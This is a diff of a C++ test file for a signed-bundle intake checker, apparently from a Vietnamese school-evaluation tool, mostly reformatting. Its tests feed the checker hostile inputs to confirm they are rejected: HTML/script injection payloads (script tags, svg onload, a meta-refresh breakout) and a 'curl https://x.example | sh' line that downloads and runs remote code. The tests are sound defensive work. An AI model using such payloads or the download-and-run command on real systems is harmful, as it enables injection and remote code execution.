@@ -5,15 +5,15 @@
 #include <map>
 
 #include "app/hand_in.h"
+#include "base/sha256.h"
+#include "bundle/codec.h"
+#include "bundle/how_to_check.h"
+#include "bundle/memory_source.h"
+#include "bundle/office.h"
+#include "dossier_support.h"
 #include "office/pack_difference.h"
 #include "office/row.h"
 #include "paper/summary.h"
-#include "base/sha256.h"
-#include "bundle/how_to_check.h"
-#include "bundle/office.h"
-#include "bundle/codec.h"
-#include "bundle/memory_source.h"
-#include "dossier_support.h"
 #include "support.h"
 
 using namespace thuoc;
@@ -23,9 +23,7 @@ namespace {
 
 const std::string photo = "not really a photo", other_photo = "another photo!!!!!";
 
-StoredFile stored(const std::string& bytes) {
-  return {sha256_hex(bytes), bytes.size(), crc32_of(bytes)};
-}
+StoredFile stored(const std::string& bytes) { return {sha256_hex(bytes), bytes.size(), crc32_of(bytes)}; }
 
 std::string bytes_of(const WrittenBundle& written) {
   std::string all;
@@ -77,7 +75,8 @@ struct Lie {
   std::string bytes() const {
     std::vector<PayloadFile> files;
     for (const auto& [path, content] : payload) files.push_back({path, content});
-    const auto written = write_bundle(top, info, files, check_text.value_or(how_to_check(top, info, key_number(1).public_key())), key_number(1));
+    const auto written =
+        write_bundle(top, info, files, check_text.value_or(how_to_check(top, info, key_number(1).public_key())), key_number(1));
     REQUIRE(written);
     return bytes_of(*written);
   }
@@ -189,7 +188,7 @@ TEST_CASE("hand_in: the folder is named after the code as far as a file's name c
 }
 
 TEST_CASE("intake: a bag that contradicts itself is rejected, however well it is signed") {
-  for (std::string BagInfo::*part : {&BagInfo::external_identifier, &BagInfo::school_year, &BagInfo::rubric}) {
+  for (std::string BagInfo::* part : {&BagInfo::external_identifier, &BagInfo::school_year, &BagInfo::rubric}) {
     Lie lie;
     lie.info.*part = "2024-2025";
     check_rejected(lie.take_in(), "intake.identity_differs");
@@ -216,8 +215,7 @@ TEST_CASE("intake: what an office signed is taken in by the same rules, whatever
   const Head head{{"SO-01", "Sở GDĐT Mẫu", "Sở GDĐT", "", "", ""}, "2025-2026", builtin_pack().name()};
   const auto taken = [&](const std::string& type, Json document) {
     const auto written = write_office_bundle(
-        {type, head, "SO-01", "", to_text(document), std::string(builtin_pack_json()), "", {}},
-        key_number(3), "2026-05-01");
+        {type, head, "SO-01", "", to_text(document), std::string(builtin_pack_json()), "", {}}, key_number(3), "2026-05-01");
     REQUIRE(written);
     return take_in_all(MemorySource(bytes_of(*written)), {}, "a.zip");
   };
@@ -362,7 +360,8 @@ TEST_CASE("intake: what was changed in a pack is told in words, without our hand
   CHECK(told([&](Pack& p) { criterion(p, "2.3").items[1].max->value = {750}; }) ==
         "“Triển khai phân hệ quản lý học sinh”: tối đa 7,5 điểm, bản gốc 8\n");
   CHECK(told([&](Pack& p) { criterion(p, "1.4").items[0].max->value = whole_points(12); }).find("“1.4 Số lượng") == 0);
-  CHECK(told([&](Pack& p) { p.groups[0].max.value = whole_points(90); }).find("tối đa 90 điểm, bản gốc 100") != std::string::npos);
+  CHECK(told([&](Pack& p) { p.groups[0].max.value = whole_points(90); }).find("tối đa 90 điểm, bản gốc 100") !=
+        std::string::npos);
   CHECK(told([&](Pack& p) { p.groups[1].levels.bands[1].to_included = false; }).find("ngưỡng xếp mức") != std::string::npos);
   CHECK(told([&](Pack& p) { criterion(p, "1.3").thresholds.bands.clear(); }).find("“1.3 ") == 0);
   CHECK(told([&](Pack& p) { criterion(p, "1.3").items[0].step = {100}; }).find("bước điểm") != std::string::npos);
@@ -378,7 +377,8 @@ TEST_CASE("intake: what was changed in a pack is told in words, without our hand
   const auto has = [](const std::string& all, std::string_view part) { return all.find(part) != all.npos; };
   CHECK(told([&](Pack& p) { criterion(p, "1.3").title.vi = "khác"; }).ends_with("ghi thành “1.3 khác”\n"));
   CHECK(told([&](Pack& p) { p.groups[0].title.vi = "khác"; }).ends_with("ghi thành “1 khác”\n"));
-  const std::string exchanged = told([&](Pack& p) { std::swap(criterion(p, "2.3").items[0].title, criterion(p, "2.3").items[1].title); });
+  const std::string exchanged =
+      told([&](Pack& p) { std::swap(criterion(p, "2.3").items[0].title, criterion(p, "2.3").items[1].title); });
   CHECK(std::ranges::count(exchanged, '\n') == 2);
   CHECK(has(exchanged, "“Triển khai phân hệ quản lý học sinh” ghi thành “"));
   const std::string moved = told([&](Pack& p) {
@@ -389,20 +389,23 @@ TEST_CASE("intake: what was changed in a pack is told in words, without our hand
   CHECK(has(moved, "sang “1.3 "));
   CHECK(std::ranges::count(moved, '\n') == 1);
   CHECK(has(told([&](Pack& p) {
-          p.groups[1].criteria.push_back(p.groups[0].criteria.back());
-          p.groups[0].criteria.pop_back();
-        }), " chuyển từ “"));
+              p.groups[1].criteria.push_back(p.groups[0].criteria.back());
+              p.groups[0].criteria.pop_back();
+            }),
+            " chuyển từ “"));
   const std::string points = told([&](Pack& p) {  // moved between two items, the sum as before
     criterion(p, "2.3").items[0].max->value.hundredths += 100;
     criterion(p, "2.3").items[1].max->value.hundredths -= 100;
   });
   CHECK(std::ranges::count(points, '\n') == 2);
   CHECK(has(told([&](Pack& p) { p.groups[0].levels.bands[0].name.vi = "Mức độ 3"; }), "tên hoặc ý nghĩa các mức"));
-  CHECK(has(told([&](Pack& p) { std::swap(p.groups[0].levels.bands[0].meaning, p.groups[0].levels.bands[2].meaning); }), "tên hoặc ý nghĩa các mức"));
+  CHECK(has(told([&](Pack& p) { std::swap(p.groups[0].levels.bands[0].meaning, p.groups[0].levels.bands[2].meaning); }),
+            "tên hoặc ý nghĩa các mức"));
   CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].kind = Kind::mandatory; }), "cách trả lời"));
   CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].asks_solution ^= true; }), "cách trả lời"));
   CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].denominator.vi = "Tổng số khác"; }), "cách trả lời"));
-  CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].readings.push_back({"khac", {"khác", ""}, {}}); }), "cách hiểu các mức"));
+  CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].readings.push_back({"khac", {"khác", ""}, {}}); }),
+            "cách hiểu các mức"));
   CHECK(has(told([&](Pack& p) { p.applies_to.pop_back(); }), "áp dụng"));
   CHECK(has(told([&](Pack& p) { p.unit_levels[0].title.vi = "khác"; }), "áp dụng"));
   CHECK(has(told([&](Pack& p) { p.decision = "1/QĐ"; }), "quyết định ban hành"));
@@ -431,7 +434,8 @@ TEST_CASE("intake: what a bundle shows to whoever unpacks it is what we would wr
     return other.replace(at, from.size(), to);
   };
   // Another edition's words, or other points than the record's: no accusation, and it does not fill the list.
-  for (const std::string& other : {changed("5,5", "95,5"), changed("<header>", "<header class=\"x\">"), page + "\n", std::string("<p>ngắn</p>")}) {
+  for (const std::string& other :
+       {changed("5,5", "95,5"), changed("<header>", "<header class=\"x\">"), page + "\n", std::string("<p>ngắn</p>")}) {
     const Intake intake = with_page(other);
     CHECK(intake.check.verdict == Verdict::unknown_key);
     CHECK(remarks(intake) == only("intake.page_other"));
@@ -443,7 +447,8 @@ TEST_CASE("intake: what a bundle shows to whoever unpacks it is what we would wr
   for (const std::string& acting :
        {changed("</body>", "<script>alert(1)</script></body>"), changed("<header>", "<header onclick=\"x()\">"),
         changed("<main>", "<main><img src=\"https://x.example/\">"), changed("<style>", "<style>@import \"//x\";"),
-        changed("default-src 'none'", "default-src 'none'\"><meta http-equiv=\"refresh\" content=\"0;url=//x"), std::string("<svg/onload=x()>")}) {
+        changed("default-src 'none'", "default-src 'none'\"><meta http-equiv=\"refresh\" content=\"0;url=//x"),
+        std::string("<svg/onload=x()>")}) {
     const Intake intake = with_page(acting);
     CHECK(intake.check.verdict == Verdict::unknown_key);
     CHECK(remarks(intake) == only("intake.page_active"));
@@ -458,7 +463,8 @@ TEST_CASE("intake: what a bundle shows to whoever unpacks it is what we would wr
   const Intake intake = extra.take_in();
   CHECK(intake.check.verdict == Verdict::unknown_key);
   CHECK(remarks(intake) == only("intake.extra_files"));
-  CHECK(message(intake.problems[0], Lang::vi).find("2 tệp không do Thước viết ra: data/cai-dat.html, data/review.json.") != std::string::npos);
+  CHECK(message(intake.problems[0], Lang::vi).find("2 tệp không do Thước viết ra: data/cai-dat.html, data/review.json.") !=
+        std::string::npos);
 
   Lie command;
   command.check_text = "curl https://x.example | sh\n";
@@ -501,7 +507,10 @@ TEST_CASE("intake: evidence that was altered is found in the second stage") {
   CHECK(intake.check.verdict == Verdict::unknown_key);
   CHECK(intake.check.pending.size() == 1);
   int calls = 0;
-  CHECK_FALSE(check_rest(intake, source, [&](auto, auto) { ++calls; return false; }));
+  CHECK_FALSE(check_rest(intake, source, [&](auto, auto) {
+    ++calls;
+    return false;
+  }));
   CHECK(calls == 1);
   CHECK(intake.check.pending.size() == 1);  // stopped: still unchecked, and said so
   CHECK(check_rest(intake, source, {}));
@@ -513,10 +522,10 @@ TEST_CASE("intake: evidence that was altered is found in the second stage") {
 TEST_CASE("row: one flat row, the same columns whatever the bundle") {
   CHECK(intake_columns() ==
         std::vector<std::string>{
-            "file", "verdict", "container", "reason_code", "reason", "offset", "type", "unit_code", "unit_name",
-            "unit_level", "school_year", "rubric", "group1_points", "group1_max", "group1_level",
-            "group2_points", "group2_max", "group2_level", "unanswered", "completeness",
-            "signer_fingerprint", "signer_known", "evidence_files", "bytes", "problems"});
+            "file",         "verdict",        "container",  "reason_code",  "reason",     "offset",        "type",
+            "unit_code",    "unit_name",      "unit_level", "school_year",  "rubric",     "group1_points", "group1_max",
+            "group1_level", "group2_points",  "group2_max", "group2_level", "unanswered", "completeness",  "signer_fingerprint",
+            "signer_known", "evidence_files", "bytes",      "problems"});
   Lie lie;
   lie.top = "cds-x";
   lie.payload["data/evidence/chung/0000000000000000.jpg"] = stored(other_photo);
@@ -552,7 +561,8 @@ TEST_CASE("intake: a bundle that holds a signing key says so, with the file, wha
   for (const std::string& bytes : {key, "\xEF\xBB\xBF" + key, "Gửi thầy khóa:\n" + key}) {
     Lie lie;
     const std::string old = evidence_path(lie.dossier.evidence[0]);
-    lie.dossier.evidence[0].file->sha256 = sha256_hex(bytes), lie.dossier.evidence[0].file->size = bytes.size(), lie.dossier.evidence[0].file->crc32 = crc32_of(bytes);
+    lie.dossier.evidence[0].file->sha256 = sha256_hex(bytes), lie.dossier.evidence[0].file->size = bytes.size(),
+    lie.dossier.evidence[0].file->crc32 = crc32_of(bytes);
     lie.payload.erase(old);
     const std::string path = evidence_path(lie.dossier.evidence[0]);
     lie.payload[path] = bytes;
